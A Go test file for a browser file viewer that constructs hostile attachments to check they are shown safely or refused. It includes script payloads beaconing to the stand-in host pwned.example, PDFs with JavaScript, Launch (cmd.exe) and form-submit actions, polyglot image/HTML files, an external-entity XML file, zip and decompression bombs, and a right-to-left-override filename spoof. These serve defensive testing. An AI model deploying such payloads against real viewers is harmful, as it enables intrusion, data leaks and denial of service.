package browsertest

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
	"unicode/utf16"
)

// evil is what a hostile file tries in every language that might run it: reach the desk, the network, and another page.
const evil = `try{parent.document.title="pwned"}catch(e){}try{top.name="pwned"}catch(e){}try{fetch("http://pwned.example/f")}catch(e){}` +
	`new Image().src="http://pwned.example/i";window.pwned=1;try{top.location="http://pwned.example/t"}catch(e){}`

const evilPage = `<!doctype html><html><head><link rel=stylesheet href="http://pwned.example/s"></head><body><img src="http://pwned.example/g" onerror='` + evil + `'><script>` + evil + `</script></body></html>`

// attached is one file and what the viewer makes of it.
type attached struct {
	name string
	body []byte
	way  string // how it is shown; "" when it is refused
	text string // what the frame's document, or the refusal, says
	dark bool   // pixels of the picture's middle are black
}

func block(w, h int, c color.Color) image.Image {
	m := image.NewPaletted(image.Rect(0, 0, w, h), color.Palette{c})
	return m
}

func encoded(t *testing.T, encode func(*bytes.Buffer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := encode(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// turnedJPEG is wider than high, and says that it lies on its side.
func turnedJPEG(body []byte) []byte {
	exif := "Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00\x00\x00\x00\x00"
	head := []byte{0xff, 0xd8, 0xff, 0xe1, 0, byte(len(exif) + 2)}
	return append(append(head, exif...), body[2:]...)
}

// hugePNG is a small file that says it is a picture of so many pixels.
func hugePNG(w, h uint32) []byte {
	var ihdr, pixels bytes.Buffer
	_ = binary.Write(&ihdr, binary.BigEndian, []uint32{w, h}) // memory
	ihdr.Write([]byte{1, 0, 0, 0, 0})
	z := zlib.NewWriter(&pixels)
	_, _ = z.Write(make([]byte, 1<<20)) // memory
	_ = z.Close()
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	for _, c := range []struct {
		name string
		body []byte
	}{{"IHDR", ihdr.Bytes()}, {"IDAT", pixels.Bytes()}, {"IEND", nil}} {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(c.body)))
		b.WriteString(c.name)
		b.Write(c.body)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(c.name), c.body...)))
	}
	return b.Bytes()
}

// pdf writes objects, of which the first is the catalogue, with a table of where they are.
func pdf(objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	at := make([]int, len(objects))
	for i, o := range objects {
		at[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	table := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, table)
	return b.Bytes()
}

func stream(dict, body string) string {
	return fmt.Sprintf("<<%s /Length %d>>\nstream\n%s\nendstream", dict, len(body), body)
}

// onePage is a file of one page, 200 by 200, with what stands in the catalogue, in the page, and on it.
func onePage(catalog, page, content string, more ...string) []byte {
	return pdf(append([]string{
		"<</Type /Catalog /Pages 2 0 R " + catalog + ">>", "<</Type /Pages /Kids [3 0 R] /Count 1>>",
		"<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R " + page + ">>", stream("", content),
	}, more...)...)
}

const blackSquare = "0 g 50 50 100 100 re f"

// endlessPDF is a small file of a page that takes minutes to read.
func endlessPDF() attached {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	for range 64 {
		_, _ = z.Write(bytes.Repeat([]byte("0 0 m 9 9 l S\n"), 1<<16)) // memory
	}
	_ = z.Close()
	return attached{name: "endless.pdf", body: pdf("<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>", "<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R>>", stream("/Filter /FlateDecode", b.String()))}
}

// pdfFiles are files that do what a PDF can do.
func pdfFiles() []attached {
	js := "(" + strings.NewReplacer("(", `\(`, ")", `\)`).Replace(`app.alert("pwned");this.submitForm("http://pwned.example/p");`+evil) + ")"
	kids, pages := "", []string{}
	for i := range 3 {
		kids += fmt.Sprintf("%d 0 R ", 3+2*i)
		pages = append(pages, fmt.Sprintf("<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents %d 0 R>>", 4+2*i), stream("", blackSquare))
	}
	three := pdf(append([]string{"<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Count 3 /Kids [" + kids + "]>>"}, pages...)...)
	fax := strings.Repeat("\xff", 2) + "\x00\x10\x01"
	return []attached{
		{name: "three.pdf", body: three, way: "pdf", dark: true},
		{name: "javascript.pdf", body: onePage("/OpenAction <</S /JavaScript /JS "+js+">> /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS "+js+">>]>>>>", "/AA <</O <</S /JavaScript /JS "+js+">>>>", blackSquare), way: "pdf", dark: true},
		{name: "uri.pdf", body: onePage("/OpenAction <</S /URI /URI (http://pwned.example/u)>>", "/Annots [<</Type /Annot /Subtype /Link /Rect [0 0 200 200] /A <</S /URI /URI (http://pwned.example/a)>>>>]", blackSquare), way: "pdf", dark: true},
		{name: "launch.pdf", body: onePage("/OpenAction <</S /Launch /F (cmd.exe) /Win <</F (cmd.exe)>>>>", "/Annots [<</Type /Annot /Subtype /Screen /Rect [0 0 200 200] /A <</S /GoToR /F (http://pwned.example/r)>>>>]", blackSquare), way: "pdf", dark: true},
		{name: "embedded.pdf", body: onePage("/Names <</EmbeddedFiles <</Names [(a.html) <</Type /Filespec /F (a.html) /EF <</F 5 0 R>>>>]>>>>", "", blackSquare, stream("/Type /EmbeddedFile /Subtype /text#2Fhtml", evilPage)), way: "pdf", dark: true},
		{name: "xfa.pdf", body: onePage("/AcroForm <</Fields [] /XFA 5 0 R>>", "", blackSquare, stream("", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">`+evil+`</script></event></subform></template></xdp:xdp>`)), way: "pdf", dark: true},
		{name: "form.pdf", body: onePage("/AcroForm <</Fields [5 0 R] /NeedAppearances true>>", "/Annots [5 0 R]", blackSquare, "<</Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 200 200] /A <</S /SubmitForm /F (http://pwned.example/s)>> /AA <</PO <</S /JavaScript /JS "+js+">>>>>>"), way: "pdf", dark: true},
		{name: "file.pdf", body: onePage("", "/Resources <</XObject <</X <</Type /XObject /Subtype /Image /F (http://pwned.example/x) /Width 1 /Height 1 /FFilter /DCTDecode>>>>>>", blackSquare+" /X Do"), way: "pdf", dark: true},
		{name: "fax.pdf", body: onePage("", "/Resources <</XObject <</X 5 0 R>>>>", "q 200 0 0 200 0 0 cm /X Do Q", stream("/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms <</K -1 /Columns 16 /Rows 16>>", fax)), way: "pdf", dark: true},
		{name: "song.pdf", body: onePage("", "/Resources <</Font <</F 5 0 R>>>>", "BT /F 300 Tf -50 -20 Td <2588> Tj ET", "<</Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R]>>",
			"<</Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo <</Registry (Adobe) /Ordering (GB1) /Supplement 2>> /DW 1000 /FontDescriptor <</Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93>>>>"), way: "pdf"},
		{name: "long.pdf", body: onePage("", "", blackSquare+" "+strings.Repeat("0 0 m 9 9 l S\n", 20_000)), way: "pdf", dark: true},
		{name: "wide.pdf", body: pdf("<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>", "<</Type /Page /Parent 2 0 R /UserUnit 75000 /MediaBox [0 0 14400 14400] /Contents 4 0 R>>", stream("", "0 g 0 0 14400 14400 re f")), way: "pdf", dark: true},
		{name: "circle.pdf", body: pdf("<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [2 0 R] /Count 2000000000>>"), text: "damaged"},
		{name: "locked.pdf", body: []byte(strings.Replace(string(onePage("", "", blackSquare)), "trailer <<", "trailer <</ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Encrypt <</Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <"+strings.Repeat("41", 32)+"> /U <"+strings.Repeat("42", 32)+">>> ", 1)), text: "password"},
		{name: "half.pdf", body: three[:40], text: "damaged"},
	}
}

// hostile are files as somebody might send them who means the desk ill, and some honest ones.
func hostile(t *testing.T) []attached {
	t.Helper()
	black := block(60, 40, color.Black)
	pngFile := encoded(t, func(b *bytes.Buffer) error { return png.Encode(b, black) })
	jpegFile := encoded(t, func(b *bytes.Buffer) error { return jpeg.Encode(b, black, nil) })
	white := block(60, 40, color.White).(*image.Paletted)
	gifFile := encoded(t, func(b *bytes.Buffer) error {
		return gif.EncodeAll(b, &gif.GIF{Image: []*image.Paletted{black.(*image.Paletted), white}, Delay: []int{1, 1}})
	})
	office := encoded(t, func(b *bytes.Buffer) error {
		z := zip.NewWriter(b)
		for _, name := range []string{"[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"} {
			if _, err := z.Create(name); err != nil {
				return err
			}
		}
		return z.Close()
	})
	bomb := encoded(t, func(b *bytes.Buffer) error {
		z := zip.NewWriter(b)
		w, err := z.Create("zeros")
		if err == nil {
			_, err = w.Write(make([]byte, 64<<20))
		}
		return errorsOf(err, z.Close())
	})
	wide := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(evilPage)) {
		wide = append(wide, byte(u), byte(u>>8))
	}
	wav := append([]byte("RIFF\x64\x1f\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x40\x1f\x00\x00\x01\x00\x08\x00data\x40\x1f\x00\x00"), bytes.Repeat([]byte{128}, 8000)...)
	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload='` + evil + `'><script>` + evil + `</script><image href="http://pwned.example/v"/></svg>`
	return append([]attached{
		{name: "black.png", body: pngFile, way: "picture", dark: true},
		{name: "black.jpg", body: jpegFile, way: "picture", dark: true},
		{name: "turned.jpg", body: turnedJPEG(jpegFile), way: "picture", dark: true},
		{name: "moving.gif", body: gifFile, way: "picture", dark: true},
		{name: "page and picture.png", body: append(bytes.Clone(pngFile), evilPage...), way: "picture", dark: true},
		{name: "script and picture.gif", body: append(append([]byte("GIF89a/*"), gifFile[8:]...), "*/=1;"+evil...), way: "picture", dark: true},
		{name: "html.jpg", body: []byte(evilPage), text: "web page"},
		{name: "drawing.svg", body: []byte(svg), text: "web page"},
		{name: "drawing.png", body: []byte("\xef\xbb\xbf\n<?xml version='1.0'?>" + svg), text: "web page"},
		{name: "entities.xml", body: []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://pwned.example/e"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>`), text: "web page"},
		{name: "wide.html", body: wide, text: "web page"},
		{name: "zip bomb", body: bomb, text: "archive"},
		{name: "office.docx", body: office, text: "office"},
		{name: "program", body: append([]byte("MZ\x90\x00"), make([]byte, 64)...), text: "program"},
		{name: "nothing", body: nil, text: "empty"},
		{name: "half.jpg", body: jpegFile[:30], text: "damaged"},
		{name: "half.png", body: pngFile[:20], text: "damaged"},
		{name: "huge.png", body: hugePNG(65_000, 65_000), text: "too large"},
		{name: "film.mp4", body: []byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + evilPage), text: "cannot play"},
		{name: "film.webm", body: []byte("\x1a\x45\xdf\xa3" + evilPage), text: "cannot play"},
		{name: "quiet.wav", body: wav, way: "sound"},
		{name: "note.txt", body: []byte("您好。" + evilPage + "\nsafe\u202egpj.exe\u2066x\u200b"), way: "text", text: "safeU+202Egpj.exeU+2066xU+200B"},
		{name: "gb18030.txt", body: []byte("\xc4\xfa\xba\xc3"), way: "text", text: "您好"},
		{name: "long.txt", body: bytes.Repeat([]byte("long text\n"), 40_000), way: "text", text: "long text"},
		{name: "nul.txt", body: []byte("text\x00text"), text: "none of the kinds"},
	}, pdfFiles()...)
}
